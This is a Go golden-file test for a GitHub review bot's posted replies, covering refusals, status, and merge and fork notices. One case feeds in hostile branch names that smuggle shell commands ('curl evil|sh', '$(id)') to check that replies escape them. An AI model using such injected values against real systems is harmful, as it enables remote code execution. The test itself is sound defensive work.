package bot

import (
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/pact-action/pact-action/checks"
	"github.com/pact-action/pact-action/internal/testkit/golden"
	"github.com/pact-action/pact-action/projection"
)

// TestRepliesGolden renders every reply the bot posts from representative
// inputs (the pact of state: T1 and T2 await review on feat/x, T3 is in
// progress on feat/y) into testdata/replies/<kind>.md, so that a reviewer
// sees the exact text. Run `go test ./bot -run TestRepliesGolden -update`
// after a deliberate change of a reply, and read the diff.
func TestRepliesGolden(t *testing.T) {
	t.Parallel()
	st := state(t)
	cfg := seats(t)
	const (
		reviewed = "0123456789abcdef0123456789abcdef01234567"
		now      = "89abcdef0123456789abcdef0123456789abcdef"
	)
	accept := Intent{Draft: projection.NewAccept("lead", "T1", "F", projection.AcceptPayload{}), What: "accept T1 (comment 9 by @octocat)"}
	changes := Intent{Draft: projection.NewChangesRequested("lead", "T1", "F", projection.ChangesRequestedPayload{Reason: "it's not tested"}),
		What: "changes_requested T1 (review 7 by @octocat)"}
	refusal := engineRejection(t, st)
	cases := []struct {
		kind    string
		renders string // the function of replies.go that wrote it
		text    string
	}{
		{"help", "helpReply", helpReply("")},
		{"help-with-problem", "helpReply", helpReply(problemUnknownVerb("approve`@org/team"))},
		{"rule1-owner-accept", "ownerRefusal", ownerRefusal("mallory", st.Tasks["T2"], projection.TypeAccept)},
		{"rule1-owner-changes", "ownerRefusal", ownerRefusal("hubot", st.Tasks["T1"], projection.TypeChangesRequested)},
		{"rule1-not-reviewer", "notReviewerRefusal", notReviewerRefusal("carol", cfg.SeatsOf("carol"), st.Tasks["T1"], "/pact accept")},
		{"rule1-not-reviewer-no-seat", "notReviewerRefusal", notReviewerRefusal("stranger", nil, st.Tasks["T1"], "/pact changes")},
		{"unknown-task", "unknownTaskReply", unknownTaskReply("/pact accept", "T9`@org/team", st, "feat/x")},
		{"unknown-task-no-tasks", "unknownTaskReply", unknownTaskReply("/pact accept", "T9", st, "feat/none")},
		{"not-awaiting-review", "notAwaitingReply", notAwaitingReply("/pact accept", st.Tasks["T3"], reviewed)},
		{"no-write-permission", "noWrite", noWrite("reader", "/pact recheck")},
		{"nothing-to-review", "nothingToReview", nothingToReview("octocat", cfg.SeatsOf("octocat"), "feat/y", reviewed, st)},
		{"nothing-to-review-no-tasks", "nothingToReview", nothingToReview("octocat", cfg.SeatsOf("octocat"), "feat/none", reviewed, st)},
		{"status", "StatusReply", StatusReply(st, "feat/x", checks.Waiting(".pact/log.jsonl", st, "feat/x", nil, nil, nil))},
		{"renewed", "renewedReply", renewedReply("octocat", []string{"T1"}, reviewed)},
		{"renewed-several", "renewedReply", renewedReply("rev-agent[bot]", []string{"T1", "T2"}, reviewed)},
		{"config-unusable", "configUnusable", configUnusable(".github/pact.yml", "main", errors.New("seats.lead: <b>@org/team</b> is not a list of logins"))},
		{"no-pact", "noPact", noPact(".pact/log.jsonl")},
		{"comment-edited", "commentEdited", commentEdited("octocat")},
		{"head-unknown", "headUnknown", headUnknown("a push to the branch is stamped in the same second as the comment, so which came first cannot be told")},
		{"branch-moved", "BranchMoved", BranchMoved([]string{accept.What, "changes_requested T2 (comment 9 by @octocat)"}, reviewed, now)},
		{"engine-refusal", "EngineRefusal", EngineRefusal(accept.What, refusal.Code, refusal.Message, "")},
		{"engine-refusal-future", "FutureHint", EngineRefusal(accept.What, refusal.Code, refusal.Message, FutureHint([]int{12, 13}, "2099-01-01T00:00:00Z"))},
		{"too-large-to-reorder", "TooLargeToReorder", TooLargeToReorder([]string{accept.What}, 40<<20, 16<<20, "")},
		{"too-large-to-reorder-future", "TooLargeToReorder", TooLargeToReorder([]string{accept.What, "changes_requested T2 (comment 9 by @octocat)"}, 40<<20, 16<<20, FutureHint([]int{12, 13}, "2099-01-01T00:00:00Z"))},
		{"id-conflict", "IDConflict", IDConflict(accept.What, EventID("o/r", "issue_comment#0", 9, "T1"), 12)},
		{"log-cut-off", "LogCutOff", LogCutOff(".pact/log.jsonl", "feat/x", []string{accept.What, "changes_requested T2 (comment 9 by @octocat)"})},
		{"fork", "ForkNotice", ForkNotice(WhyFork, "feat/login", []string{PactifyCommand(accept), PactifyCommand(changes)})},
		{"fork-forbidden", "ForkNotice", ForkNotice(WhyForbidden, "feat/login", []string{PactifyCommand(accept)})},
		{"update-conflict", "updateConflict", updateConflict("main", "feat/x", []string{"src/login.go", "docs/`@org/team`.md"}, 3, true)},
		{"update-conflict-hostile-branch", "updateConflict", updateConflict("main;curl evil|sh", "feat/x'$(id)", []string{"src/a.go"}, 0, false)},
		{"update-pact-conflict", "updatePactConflict", updatePactConflict("main", "feat/x", ".pact/log.jsonl", mergeConflict(t).Explain("the merge base", "main", "this branch"))},
		{"update-cannot-workflows", "UpdateCannot", UpdateCannot("main", "feat/x", UpdateWhyWorkflows)},
		{"update-cannot-unreadable", "UpdateCannot", UpdateCannot("main", "feat/x", updateWhyUnreadable(errors.New("<b>too many</b> @org names")))},
		{"update-fork", "updateFork", updateFork("main", "feat/login")},
	}
	dir := filepath.Join("testdata", "replies")
	rendered := map[string]bool{}
	for _, c := range cases {
		rendered[c.renders] = true
		golden.Check(t, filepath.Join(dir, c.kind+".md"), []byte(c.text+"\n"))
	}
	if golden.Updating() {
		return
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if !slices.ContainsFunc(cases, func(c struct{ kind, renders, text string }) bool { return c.kind+".md" == e.Name() }) {
			t.Errorf("%s renders no reply any more; remove it", filepath.Join(dir, e.Name()))
		}
	}
	// Every function of replies.go that writes a reply has a golden file;
	// these only write parts of one.
	parts := []string{"mention", "verbFor", "codeList", "quotedList", "orNone", "branchTasks", "problemNoArgs", "problemUnknownVerb", "FutureLines",
		"updateMarker", "updateCommands", "updateWhyUnreadable"}
	for _, name := range replyFuncs(t) {
		if !rendered[name] && !slices.Contains(parts, name) {
			t.Errorf("replies.go: %s writes a reply that no golden file shows; add a case", name)
		}
	}
}

// mergeConflict is a real conflict of two logs: the same task assigned on
// both sides.
func mergeConflict(t *testing.T) *projection.MergeConflict {
	t.Helper()
	base := initLine
	_, err := projection.MergeLogs([]byte(base), []byte(base+assignOn(1, "T1", "feat/1")), []byte(base+assignOn(2, "T1", "feat/x")))
	var c *projection.MergeConflict
	if !errors.As(err, &c) {
		t.Fatalf("the logs merged: %v", err)
	}
	return c
}

// engineRejection is a real refusal of the engine: an accept of T3, which
// was never checkpointed.
func engineRejection(t *testing.T, st *projection.State) *projection.Rejection {
	t.Helper()
	d := projection.NewAccept("lead", "T3", st.Tasks["T3"].Feature, projection.AcceptPayload{})
	d.EventID, d.TS = EventID("o/r", "review", 7, "T3"), submitted
	log, res := projection.ReadEvents(stateLog)
	a, err := log.Append(res, nil, nil, d)
	if err != nil || a.Refused[0] == nil {
		t.Fatalf("the engine took an accept of an assigned task: %v", err)
	}
	return a.Refused[0]
}

// replyFuncs are the functions of replies.go that return a string.
func replyFuncs(t *testing.T) []string {
	t.Helper()
	f, err := parser.ParseFile(token.NewFileSet(), "replies.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, decl := range f.Decls {
		fn, ok := decl.(*ast.FuncDecl)
		if !ok || fn.Recv != nil || fn.Type.Results == nil {
			continue
		}
		res := fn.Type.Results.List
		if len(res) > 0 && strings.Contains(types(res), "string") {
			out = append(out, fn.Name.Name)
		}
	}
	if len(out) < 10 {
		t.Fatalf("found only %v in replies.go", out)
	}
	return out
}

func types(fields []*ast.Field) string {
	var b strings.Builder
	for _, f := range fields {
		if id, ok := f.Type.(*ast.Ident); ok {
			b.WriteString(id.Name + " ")
		}
	}
	return b.String()
}
